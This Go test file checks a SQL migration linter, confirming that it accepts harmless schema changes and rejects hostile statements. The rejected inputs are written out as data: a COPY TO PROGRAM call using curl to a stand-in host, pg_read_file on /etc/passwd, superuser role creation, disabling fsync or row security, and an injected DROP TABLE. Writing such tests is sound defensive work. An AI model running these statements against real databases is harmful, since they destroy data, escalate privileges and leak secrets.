package lint_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"drawbridge/internal/lint"
	"drawbridge/internal/migrate"
)

const (
	rightAct   = "ALTER TABLE @table ALTER COLUMN code SET STATISTICS 500"
	rightUndo  = "ALTER TABLE @table ALTER COLUMN code SET STATISTICS -1"
	rightProbe = "SELECT attstattarget = 500 FROM pg_attribute WHERE attrelid = @table_oid AND attname = 'code'"
)

func ownSQL(act, undo, probe string) migrate.Operation {
	return migrate.Operation{Kind: migrate.SQL, Name: "x", Act: []string{act}, Undo: []string{undo}, Probe: probe}
}

func TestSQLThatSaysHowTheTableIsKeptIsLetThrough(t *testing.T) {
	t.Parallel()
	for _, c := range [][2]string{
		{rightAct, rightUndo},
		{"CREATE INDEX CONCURRENTLY i ON @table (lower(code) text_pattern_ops, (qty + 1) DESC) INCLUDE (id) WHERE code::text <> ''", "DROP INDEX CONCURRENTLY @schema.i"},
		{"CREATE STATISTICS @schema.s ON (lower(code)), (extract(year FROM created)) FROM @table", "DROP STATISTICS @schema.s"},
		{"CREATE STATISTICS @schema.s (mcv) ON code, (qty % 7) FROM @table", "DROP STATISTICS @schema.s"},
		{"ALTER TABLE @table SET (fillfactor = 70), ALTER note SET STORAGE EXTERNAL, CLUSTER ON customers_pkey", "ALTER TABLE @table RESET (fillfactor), ALTER note SET STORAGE EXTENDED, SET WITHOUT CLUSTER"},
		{"ALTER TABLE @table RENAME CONSTRAINT a TO b", "ALTER TABLE @table RENAME CONSTRAINT b TO a"},
		{"ALTER INDEX @schema.a RENAME TO b", "ALTER INDEX @schema.b RENAME TO a"},
		{"COMMENT ON TABLE @table IS 'it''s; all'", "COMMENT ON TABLE @table IS NULL"},
		{"COMMENT ON COLUMN @table.code IS 'x'", "COMMENT ON COLUMN @table.code IS NULL"},
		{"COMMENT ON CONSTRAINT c ON @table IS 'x'", "COMMENT ON CONSTRAINT c ON @table IS NULL"},
		{"ANALYZE @table (code)", "COMMENT ON INDEX @schema.i IS NULL"},
		{"ALTER TABLE @table VALIDATE CONSTRAINT c", rightUndo},
	} {
		act, undo := c[0], c[1]
		require.Empty(t, lint.Own(ownSQL(act, undo, rightProbe)), act)
	}
	for _, probe := range []string{
		"SELECT EXISTS (SELECT FROM pg_catalog.pg_class c JOIN pg_index i ON i.indexrelid = c.oid WHERE c.relnamespace = @schema_oid AND c.relname IN ('a', 'b'))",
		"SELECT (SELECT count(*) FROM pg_constraint WHERE conrelid = @table_oid) = 2 AND obj_description(@table_oid, 'pg_class') IS NOT NULL",
		"SELECT CASE WHEN to_regclass('x') IS NULL THEN false ELSE reloptions @> ARRAY['fillfactor=70'] END FROM pg_class WHERE oid = @table_oid",
	} {
		require.Empty(t, lint.Own(ownSQL(rightAct, rightUndo, probe)), probe)
	}
}

func TestAHostileAuthorsSQLIsRefused(t *testing.T) {
	t.Parallel()
	for _, c := range [][2]string{
		{"DROP TABLE @table", "a statement that a migration may not have (Drop)"},
		{"DROP INDEX CONCURRENTLY @schema.i", "may not have (Drop)"},
		{"DELETE FROM @table", "may not have (Delete)"},
		{"TRUNCATE @table", "may not have (Truncate)"},
		{"UPDATE @table SET code = ''", "may not have (Update)"},
		{"INSERT INTO @table VALUES (1)", "may not have (Insert)"},
		{"SELECT pg_sleep(1)", "may not have (Select)"},
		{"COPY @table TO PROGRAM 'curl evil.example'", "may not have (Copy)"},
		{"DO 'BEGIN END'", "may not have (Do)"},
		{"SET ROLE postgres", "may not have (VariableSet)"},
		{"RESET ROLE", "may not have (VariableSet)"},
		{"COMMIT", "may not have (Transaction)"},
		{"GRANT SELECT ON @table TO PUBLIC", "may not have (Grant)"},
		{"CREATE ROLE evil SUPERUSER", "may not have (CreateRole)"},
		{"CREATE EXTENSION dblink", "may not have (CreateExtension)"},

		{"CREATE FUNCTION @schema.f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "may not have (CreateFunction)"},
		{"CREATE TRIGGER t BEFORE INSERT ON @table FOR EACH ROW EXECUTE FUNCTION @schema.f()", "may not have (CreateTrig)"},
		{"CREATE RULE r AS ON INSERT TO @table DO INSTEAD NOTHING", "may not have (Rule)"},
		{"CREATE POLICY p ON @table USING (true)", "may not have (CreatePolicy)"},
		{"CREATE VIEW @schema.v AS SELECT * FROM @table", "may not have (View)"},
		{"CREATE TABLE @schema.t AS SELECT 1", "may not have (CreateTableAs)"},
		{"LOCK TABLE @table", "may not have (Lock)"},
		{"ALTER SYSTEM SET fsync = off", "may not have (AlterSystem)"},
		{"CALL @schema.p()", "may not have (Call)"},
		{"NOTIFY x", "may not have (Notify)"},
		{"LOAD 'evil'", "may not have (Load)"},
		{"VACUUM @table", "only ANALYZE @table"},
		{"ANALYZE", "only ANALYZE @table"},
		{"ANALYZE @table, @schema.other", "only ANALYZE @table"},
		{"ANALYZE @schema.other", "it is about @schema.other, and has to be about @table"},
		{"ALTER TABLE @table OWNER TO evil", "ALTER TABLE may not do that (ChangeOwner)"},
		{"ALTER TABLE @table DISABLE TRIGGER ALL", "may not do that (DisableTrigAll)"},
		{"ALTER TABLE @table DROP COLUMN code", "may not do that (DropColumn)"},
		{"ALTER TABLE @table DISABLE ROW LEVEL SECURITY", "may not do that (DisableRowSecurity)"},
		{"ALTER TABLE @table ADD CHECK (evil(code))", "may not do that (AddConstraint)"},
		{"ALTER TABLE @table ALTER code TYPE int USING evil(code)", "may not do that (AlterColumnType)"},
		{"ALTER TABLE @table SET TABLESPACE evil", "may not do that (SetTableSpace)"},
		{"ALTER TABLE @table INHERIT @schema.t", "may not do that (AddInherit)"},
		{"ALTER TABLE @table REPLICA IDENTITY NOTHING", "without a replica identity"},
		{"ALTER TABLE @table SET SCHEMA evil", "may not have (AlterObjectSchema)"},
		{"ALTER TABLE @table RENAME TO evil", "only an index or a constraint"},
		{"ALTER TABLE @table RENAME code TO evil", "only an index or a constraint"},
		{"ALTER TABLE customers SET (fillfactor = 70)", "it is about customers, and has to be about @table"},
		{"ALTER TABLE @schema.other SET (fillfactor = 70)", "it is about @schema.other, and has to be about @table"},
		{"ALTER TABLE shop__ledger.effects SET (fillfactor = 70)", "it is about shop__ledger.effects, and has to be about @table"},
		{"ALTER INDEX other.i RENAME TO j", "has to be written @schema.NAME"},
		{"COMMENT ON TABLE other.t IS 'x'", "has to be about @table"},
		{"COMMENT ON COLUMN @schema.other.c IS 'x'", "a comment is about @table"},
		{"COMMENT ON ROLE postgres IS 'x'", "a comment is about @table"},
		{"CREATE INDEX i ON @table (code)", "an index is made CONCURRENTLY"},
		{"CREATE INDEX CONCURRENTLY ON @table (code)", "the index has no name"},
		{"CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON @table (code)", "of somebody else"},
		{"CREATE INDEX CONCURRENTLY i ON other.t (code)", "has to be about @table"},
		{"CREATE INDEX CONCURRENTLY i ON @table (shop.evil(code))", "shop.evil is not one of Postgres's own"},
		{"CREATE INDEX CONCURRENTLY i ON @table (code shop.evil_ops)", "shop.evil_ops is not one of Postgres's own"},
		{"CREATE INDEX CONCURRENTLY i ON @table ((code OPERATOR(shop.+) 1))", "shop.+ is not one of Postgres's own"},
		{"CREATE INDEX CONCURRENTLY i ON @table ((code::shop.evil))", "shop.evil is not one of Postgres's own"},
		{`CREATE INDEX CONCURRENTLY i ON @table ((code COLLATE shop.evil))`, "shop.evil is not one of Postgres's own"},
		{"CREATE INDEX CONCURRENTLY i ON @table (code) WHERE shop.evil(code)", "shop.evil is not one of Postgres's own"},
		{"CREATE INDEX CONCURRENTLY i ON @table (code) TABLESPACE evil", "in which tablespace"},
		{"CREATE STATISTICS evil.s ON a, b FROM @table", "have to be @schema.s"},
		{"CREATE STATISTICS @schema.s ON a, (query_to_xml('SELECT 1', true, true, '')::text) FROM @table", "the statistics call query_to_xml"},
		{"CREATE STATISTICS @schema.s ON a, ((b).pg_read_file) FROM @table", "(…).name may call a function"},
		{"CREATE INDEX CONCURRENTLY i ON @table (((b::text).upper))", "(…).name may call a function"},
		{"CREATE STATISTICS @schema.s ON a, (lower(pg_read_file(b))) FROM @table", "the statistics call pg_read_file"},
		{"CREATE STATISTICS @schema.s ON a, b FROM other.t", "has to be about @table"},
		{rightAct + "; DROP TABLE @table", "there is a semicolon in"},
		{"ALTER TABLE @table SELEC", "cannot be read: syntax error"},
	} {
		act, want := c[0], c[1]
		problems := lint.Own(ownSQL(act, rightUndo, rightProbe))
		require.NotEmpty(t, problems, act)
		require.Contains(t, texts(problems), want, act)
	}
	for _, c := range [][2]string{
		{"DROP STATISTICS @schema.other", "undo drops @schema.other, which act does not make"},
		{"DROP TABLE @table", "undo drops @table, which act does not make"},
		{"DROP INDEX CONCURRENTLY @schema.customers_pkey", "which act does not make"},
		{"CREATE INDEX CONCURRENTLY i ON @table (code)", "may not have (Index)"},
		{"DROP SCHEMA other CASCADE", "undo drops"},
		{"DELETE FROM @table", "may not have (Delete)"},
	} {
		undo, want := c[0], c[1]
		problems := lint.Own(ownSQL(rightAct, undo, rightProbe))
		require.Contains(t, texts(problems), want, undo)
	}
	made := "CREATE INDEX CONCURRENTLY i ON @table (code)"
	require.Contains(t, texts(lint.Own(ownSQL(made, "DROP INDEX @schema.i", rightProbe))), "dropped CONCURRENTLY")
	require.Contains(t, texts(lint.Own(ownSQL(made, "DROP INDEX CONCURRENTLY @schema.i CASCADE", rightProbe))), "nothing is dropped with CASCADE")
	require.Contains(t, texts(lint.Own(ownSQL(made, "DROP INDEX CONCURRENTLY evil.i", rightProbe))), "which act does not make")
}

func TestAProbeReadsTheCatalogAndNothingElse(t *testing.T) {
	t.Parallel()
	for _, c := range [][2]string{
		{"DELETE FROM pg_class", "one SELECT of one boolean"},
		{"SELECT true, true", "one SELECT of one boolean"},
		{"VALUES (true)", "one SELECT of one boolean"},
		{"SELECT true UNION SELECT false", "one SELECT of one boolean"},
		{"SELECT true INTO t", "neither INTO nor WITH"},
		{"WITH x AS (DELETE FROM a RETURNING 1) SELECT true FROM x", "neither INTO nor WITH"},
		{"SELECT true FROM @table", "the probe reads @table"},
		{"SELECT true FROM (SELECT FROM @table FOR UPDATE) x", "may not have a LockingClause"},
		{"SELECT EXISTS (SELECT FROM shop__ledger.effects)", "the probe reads shop__ledger.effects"},
		{"SELECT EXISTS (SELECT FROM pg_authid)", "the probe reads pg_authid"},
		{"SELECT EXISTS (SELECT FROM pg_stat_activity)", "the probe reads pg_stat_activity"},
		{"SELECT EXISTS (SELECT FROM pg_statistic)", "the probe reads pg_statistic"},
		{"SELECT EXISTS (SELECT FROM pg_sleep(10))", "may not have a RangeFunction"},
		{"SELECT ('/etc/passwd'::text).pg_read_file IS NULL", "(…).name may call a function"},
		{"SELECT (10::float8).pg_sleep IS NULL FROM pg_class", "(…).name may call a function"},
		{"SELECT pg_sleep(10) IS NULL", "the probe calls pg_sleep"},
		{"SELECT pg_terminate_backend(1)", "the probe calls pg_terminate_backend"},
		{"SELECT pg_read_file('/etc/passwd') <> ''", "the probe calls pg_read_file"},
		{"SELECT set_config('search_path', 'evil', false) <> ''", "the probe calls set_config"},
		{"SELECT evil.lower('x') = 'x'", "evil.lower is not one of Postgres's own"},
		{"SELECT nextval('evil') > 0", "the probe calls nextval"},
		{"SELECT 'x'::evil.domain = 'x'", "evil.domain is not one of Postgres's own"},
		{"SELECT current_user = 'x'", "may not have a SQLValueFunction"},
		{"SELECT true FROM pg_class a, (SELECT evil() FROM pg_class UNION SELECT true FROM @table) b", "the probe calls evil"},
	} {
		probe, want := c[0], c[1]
		problems := lint.Own(ownSQL(rightAct, rightUndo, probe))
		require.NotEmpty(t, problems, probe)
		require.Contains(t, texts(problems), want, probe)
		for _, p := range problems {
			require.NotEmpty(t, p.Hint)
		}
	}
}

func texts(problems []lint.Problem) string {
	var all []string
	for _, p := range problems {
		all = append(all, p.Text)
	}
	return strings.Join(all, "\n")
}
